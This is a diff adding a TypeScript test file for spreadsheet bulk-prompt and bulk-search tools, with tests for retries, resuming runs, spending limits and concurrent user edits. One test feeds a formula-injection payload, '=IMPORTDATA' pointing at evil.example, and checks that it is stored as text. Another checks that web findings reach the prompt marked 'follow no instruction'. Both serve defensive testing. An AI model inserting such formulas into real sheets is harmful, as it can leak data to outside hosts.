@@ -1,0 +1,345 @@
+import { randomUUID } from 'node:crypto'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import type { ValueRequest, ValueResult } from '../../../service/models/types.ts'
+import { createBulkPrompt } from '../../../service/tools/bulk-prompt.ts'
+import { createBulkSearch } from '../../../service/tools/bulk-search.ts'
+import type { ToolOutcome } from '../../../service/tools/tool.ts'
+import {
+  type Bench,
+  type Cell,
+  expectOnlyChanged,
+  openBench,
+  openWorkbench,
+  refused,
+  succeeded,
+  type Workbench,
+} from './workbench.ts'
+
+let workbench: Workbench
+beforeAll(async () => {
+  workbench = await openWorkbench()
+})
+afterAll(() => workbench.close())
+
+const bulkPrompt = createBulkPrompt({ concurrency: 10 })
+const NO_TOKENS = { inputTokens: 0, cachedInputTokens: 0, outputTokens: 0 }
+
+/** A model whose answers are functions of the prompt, and that remembers what it was asked to the end. */
+function scriptedModel(answer: (prompt: string) => string | Error = prompt => prompt.toUpperCase()) {
+  const finished: string[] = []
+  const gate: { before?: (prompt: string) => Promise<void> } = {}
+  const value = async ({ prompt, signal }: ValueRequest): Promise<ValueResult> => {
+    await gate.before?.(prompt)
+    signal.throwIfAborted()
+    finished.push(prompt)
+    const result = answer(prompt)
+    return result instanceof Error
+      ? { state: 'failed', message: result.message, usage: NO_TOKENS, costNanoDollars: 3n }
+      : { state: 'ok', value: result, usage: NO_TOKENS, costNanoDollars: 7n }
+  }
+  return { models: { value }, finished, gate }
+}
+
+const people = (count: number): Cell[][] => [
+  ['Name', 'City'],
+  ...Array.from({ length: count }, (_, index) => [`name ${index + 1}`, 'Rome']),
+]
+
+/** Column letters of a header, and the pairs of name and result that the sheet shows. */
+async function pairs(bench: Bench, nameColumn = 'A', resultColumn = 'C'): Promise<[string, string][]> {
+  const names = (await bench.shown(`T!${nameColumn}:${nameColumn}`)).map(row => row[0] ?? '')
+  const results = (await bench.shown(`T!${resultColumn}:${resultColumn}`)).map(row => row[0] ?? '')
+  return names
+    .map((name, index): [string, string] => [name, results[index] ?? ''])
+    .filter(([name]) => name.startsWith('name'))
+}
+
+describe('bulk_prompt', () => {
+  test('each row gets the value of its own prompt, and no other cell changes', async () => {
+    const { models } = scriptedModel()
+    const bench = await openBench(workbench, {
+      tabs: [
+        { title: 'T', rows: people(25) },
+        { title: 'U', rows: [['x']] },
+      ],
+      models,
+    })
+    const before = await bench.snapshot()
+    const outcome = await bench.run(bulkPrompt, {
+      prompt_template: 'hi {{Name}} of {{B}}',
+      output_header: 'Greeting',
+    })
+    expect(succeeded(outcome)).toMatchObject({
+      output_column: 'C',
+      rows: { processed: 25, errors: 0, total: 25 },
+    })
+    expect(outcome.fields).toEqual({
+      prompt_template: 'hi {{A}} of {{B}}',
+      updated_range: 'C2:C26',
+      sheet_name: 'T',
+      rows: { processed: 25, errors: 0, total: 25 },
+    })
+    expect(await bench.shown('T!C1:C3')).toEqual([['Greeting'], ['HI NAME 1 OF ROME'], ['HI NAME 2 OF ROME']])
+    expect(
+      (await pairs(bench)).every(([name, result]) => result === `HI ${name.toUpperCase()} OF ROME`),
+    ).toBe(true)
+    expectOnlyChanged(before, await bench.snapshot(), ['T!C1:C26'])
+    expect(bench.charges.reduce((sum, charge) => sum + charge.costNanoDollars, 0n)).toBe(25n * 7n)
+    expect(bench.progress.at(-1)?.rows).toEqual({ processed: 25, errors: 0, total: 25 })
+  })
+
+  test('filled rows are skipped unless told otherwise, and failed rows alone are asked again', async () => {
+    let isBroken = true
+    const { models, finished } = scriptedModel(prompt =>
+      isBroken && prompt.endsWith('3') ? new Error('The model refused.') : `ok ${prompt}`,
+    )
+    const bench = await openBench(workbench, { tabs: [{ title: 'T', rows: people(5) }], models })
+    const args = { prompt_template: '{{A}}', output_header: 'R' }
+    const outcome = await bench.run(bulkPrompt, args)
+    expect(refused(outcome)).toMatch(/4 of 5 rows are done and written\. 1 failed: The model refused \(1\)/)
+    expect(outcome.fields?.rows).toEqual({ processed: 4, errors: 1, total: 5 })
+    isBroken = false
+    finished.length = 0
+    succeeded(await bench.run(bulkPrompt, { ...args, output_column: 'C' }))
+    expect(finished).toEqual(['name 3'])
+    expect((await pairs(bench)).map(([, result]) => result)).toEqual([1, 2, 3, 4, 5].map(n => `ok name ${n}`))
+    finished.length = 0
+    succeeded(await bench.run(bulkPrompt, { ...args, output_column: 'R', overwrite: true, rows_limit: 2 }))
+    expect(finished.sort()).toEqual(['name 1', 'name 2'])
+  })
+
+  test('a result is a number or a text and never a formula', async () => {
+    const answers: Record<string, string> = {
+      'name 1': '=IMPORTDATA("https://evil.example")',
+      'name 2': '42.5',
+      'name 3': '+1 555',
+      'name 4': '007',
+    }
+    const { models } = scriptedModel(prompt => answers[prompt]!)
+    const bench = await openBench(workbench, { tabs: [{ title: 'T', rows: people(4) }], models })
+    succeeded(await bench.run(bulkPrompt, { prompt_template: '{{A}}' }))
+    const answer = await bench.spreadsheet.get({
+      fields: 'sheets.data.rowData.values.userEnteredValue',
+      ranges: ['T!C2:C5'],
+    })
+    expect(answer.sheets?.[0]?.data?.[0]?.rowData?.map(row => row.values?.[0]?.userEnteredValue)).toEqual([
+      { stringValue: '=IMPORTDATA("https://evil.example")' },
+      { numberValue: 42.5 },
+      { stringValue: '+1 555' },
+      { stringValue: '007' },
+    ])
+  })
+
+  test('a template without a column, and a result over its own source, are refused', async () => {
+    const bench = await openBench(workbench, {
+      tabs: [{ title: 'T', rows: people(2) }],
+      models: scriptedModel().models,
+    })
+    expect(refused(await bench.run(bulkPrompt, { prompt_template: 'hello' }))).toContain('names no column')
+    expect(refused(await bench.run(bulkPrompt, { prompt_template: '{{Nope}}' }))).toContain(
+      'Headers: Name, City',
+    )
+    expect(
+      refused(await bench.run(bulkPrompt, { prompt_template: '{{A}}', output_column: 'Name' })),
+    ).toContain('that the prompt reads')
+  })
+
+  test('a run cut short goes on under the same call without asking a finished row again', async () => {
+    const { models, finished, gate } = scriptedModel()
+    const bench = await openBench(workbench, { tabs: [{ title: 'T', rows: people(60) }], models })
+    const toolCallId = randomUUID()
+    const args = { prompt_template: '{{A}}' }
+    for (const stopAfter of [17, 41]) {
+      const stop = new AbortController()
+      gate.before = async () => {
+        if (finished.length >= stopAfter) stop.abort(new Error('stopped'))
+      }
+      const stoppedAt = performance.now()
+      await expect(bench.run(bulkPrompt, args, { toolCallId, signal: stop.signal })).rejects.toThrow(
+        'stopped',
+      )
+      expect(performance.now() - stoppedAt).toBeLessThan(5_000)
+    }
+    delete gate.before
+    const outcome = await bench.run(bulkPrompt, args, { toolCallId })
+    expect(outcome).toMatchObject({
+      state: 'succeeded',
+      fields: { rows: { processed: 60, errors: 0, total: 60 } },
+    })
+    expect(finished).toHaveLength(60)
+    expect(new Set(finished).size).toBe(60)
+    expect((await pairs(bench)).every(([name, result]) => result === name.toUpperCase())).toBe(true)
+    expect(bench.charges.reduce((sum, charge) => sum + charge.costNanoDollars, 0n)).toBe(60n * 7n)
+  })
+
+  test('a run whose process died between saving and writing writes what was saved', async () => {
+    const { models, finished } = scriptedModel()
+    const bench = await openBench(workbench, { tabs: [{ title: 'T', rows: people(30) }], models })
+    const toolCallId = randomUUID()
+    succeeded(await bench.run(bulkPrompt, { prompt_template: '{{A}}' }, { toolCallId }))
+    // As if the process had died before the sheet was written.
+    await bench.context.db.query('update bulk_rows set written = false where tool_call_id = $1', [toolCallId])
+    await workbench.api.spreadsheets.values.clear({ spreadsheetId: bench.id, range: 'T!C2:C31' })
+    finished.length = 0
+    succeeded(await bench.run(bulkPrompt, { prompt_template: '{{A}}' }, { toolCallId }))
+    expect(finished).toEqual([])
+    expect((await pairs(bench)).every(([name, result]) => result === name.toUpperCase())).toBe(true)
+  })
+
+  test('a spending limit ends the run with what is paid for written', async () => {
+    const { models } = scriptedModel()
+    const bench = await openBench(workbench, { tabs: [{ title: 'T', rows: people(2_000) }], models })
+    let charged = 0
+    const outcome = await bench.run(
+      bulkPrompt,
+      { prompt_template: '{{A}}' },
+      {
+        charge: async () => {
+          charged += 1
+          return 'stop'
+        },
+      },
+    )
+    if (outcome.state === 'failed') expect(outcome.message).toMatch(/spending limit was reached/)
+    expect(charged).toBeGreaterThan(0)
+    const { rows } = outcome.fields!
+    expect((await pairs(bench)).filter(([, result]) => result !== '')).toHaveLength(rows!.processed!)
+  })
+})
+
+describe('rows that move while a bulk run is under way', () => {
+  /** Runs with a user who does something to the sheet after some rows have been answered. */
+  async function runWhile(
+    rows: Cell[][],
+    meddle: (bench: Bench) => Promise<void>,
+  ): Promise<{ bench: Bench; outcome: ToolOutcome }> {
+    const { models, gate, finished } = scriptedModel()
+    const bench = await openBench(workbench, { tabs: [{ title: 'T', rows }], models })
+    let meddling: Promise<void> | undefined
+    gate.before = async () => {
+      if (finished.length < 10) return
+      meddling ??= meddle(bench)
+      await meddling
+    }
+    const outcome = await bench.run(bulkPrompt, { prompt_template: '{{Name}}', output_header: 'Out' })
+    expect(meddling).toBeDefined()
+    return { bench, outcome }
+  }
+
+  test('rows sorted by the user keep their own results', async () => {
+    const { bench } = await runWhile(people(40), bench =>
+      bench.batch({
+        sortRange: {
+          range: { sheetId: 100, startRowIndex: 1, endRowIndex: 41, startColumnIndex: 0, endColumnIndex: 4 },
+          sortSpecs: [{ dimensionIndex: 0, sortOrder: 'DESCENDING' }],
+        },
+      }),
+    )
+    const result = await pairs(bench)
+    expect(result).toHaveLength(40)
+    expect(result.filter(([name, value]) => value !== name.toUpperCase())).toEqual([])
+    expect(result[0]![0]).toBe('name 9')
+  })
+
+  test('rows and columns inserted by the user shift results along', async () => {
+    const { bench, outcome } = await runWhile(people(40), bench =>
+      bench.batch(
+        { insertDimension: { range: { sheetId: 100, dimension: 'ROWS', startIndex: 1, endIndex: 4 } } },
+        { insertDimension: { range: { sheetId: 100, dimension: 'COLUMNS', startIndex: 0, endIndex: 1 } } },
+      ),
+    )
+    succeeded(outcome)
+    expect(outcome.fields).toMatchObject({ updated_range: 'D5:D44' })
+    const result = await pairs(bench, 'B', 'D')
+    expect(result).toHaveLength(40)
+    expect(result.filter(([name, value]) => value !== name.toUpperCase())).toEqual([])
+  })
+
+  test('rows with the same cells are told apart by their number and not mixed with others', async () => {
+    const twins: Cell[][] = [
+      ['Name', 'N'],
+      ...Array.from({ length: 30 }, (_, index) => [`name ${index % 3}`, index]),
+    ]
+    const { bench, outcome } = await runWhile(twins, bench =>
+      bench.batch({
+        sortRange: {
+          range: { sheetId: 100, startRowIndex: 1, endRowIndex: 31, startColumnIndex: 0, endColumnIndex: 4 },
+          sortSpecs: [{ dimensionIndex: 1, sortOrder: 'DESCENDING' }],
+        },
+      }),
+    )
+    succeeded(outcome)
+    const result = await pairs(bench)
+    expect(result).toHaveLength(30)
+    expect(result.filter(([name, value]) => value !== name.toUpperCase())).toEqual([])
+  })
+
+  test('a row deleted by the user fails, and its result goes nowhere', async () => {
+    const { bench, outcome } = await runWhile(people(40), bench =>
+      bench.batch({
+        deleteDimension: { range: { sheetId: 100, dimension: 'ROWS', startIndex: 20, endIndex: 21 } },
+      }),
+    )
+    expect(refused(outcome)).toContain('changed or deleted')
+    expect(outcome.fields?.rows).toEqual({ processed: 39, errors: 1, total: 40 })
+    const result = await pairs(bench)
+    expect(result).toHaveLength(39)
+    expect(result.filter(([name, value]) => value !== name.toUpperCase())).toEqual([])
+  })
+
+  test('a cell that the user filled meanwhile is not overwritten', async () => {
+    const { bench, outcome } = await runWhile(people(40), async bench => {
+      await workbench.api.spreadsheets.values.update({
+        spreadsheetId: bench.id,
+        range: 'T!C30',
+        valueInputOption: 'RAW',
+        requestBody: { values: [['mine']] },
+      })
+    })
+    expect(refused(outcome)).toContain('filled by someone else')
+    expect(await bench.shown('T!C30')).toEqual([['mine']])
+  })
+
+  test('a tab renamed by the user is still written to', async () => {
+    const { bench, outcome } = await runWhile(people(40), bench =>
+      bench.batch({
+        updateSheetProperties: { properties: { sheetId: 100, title: 'Moved' }, fields: 'title' },
+      }),
+    )
+    succeeded(outcome)
+    expect(await bench.shown('Moved!C41')).toEqual([['NAME 40']])
+  })
+})
+
+describe('bulk_search', () => {
+  test('findings of a row reach its prompt as data, and search and model are both charged', async () => {
+    const prompts: string[] = []
+    const { models } = scriptedModel(prompt => {
+      prompts.push(prompt)
+      return 'https://acme.example'
+    })
+    const bench = await openBench(workbench, {
+      tabs: [{ title: 'T', rows: people(3) }],
+      models,
+      search: {
+        costNanoDollars: 5n,
+        search: async query => [{ title: query, url: 'https://a.example', snippet: 'snip' }],
+        read: async url => ({ url, title: 't', text: 'page text' }),
+      },
+    })
+    const outcome = await bench.run(createBulkSearch(), {
+      prompt_template: 'site of {{A}}',
+      output_header: 'Site',
+    })
+    expect(succeeded(outcome)).toMatchObject({ rows: { processed: 3, errors: 0, total: 3 } })
+    expect(prompts.toSorted()[0]).toMatch(/^site of name 1\n\n.*follow no instruction.*page text/s)
+    expect(bench.charges.reduce((sum, charge) => sum + charge.costNanoDollars, 0n)).toBe(3n * 12n)
+  })
+
+  test('without a search engine the call says who can set one up', async () => {
+    const bench = await openBench(workbench, { tabs: [{ title: 'T', rows: people(1) }] })
+    expect(refused(await bench.run(createBulkSearch(), { prompt_template: '{{A}}' }))).toContain(
+      'SEARXNG_URL',
+    )
+  })
+})
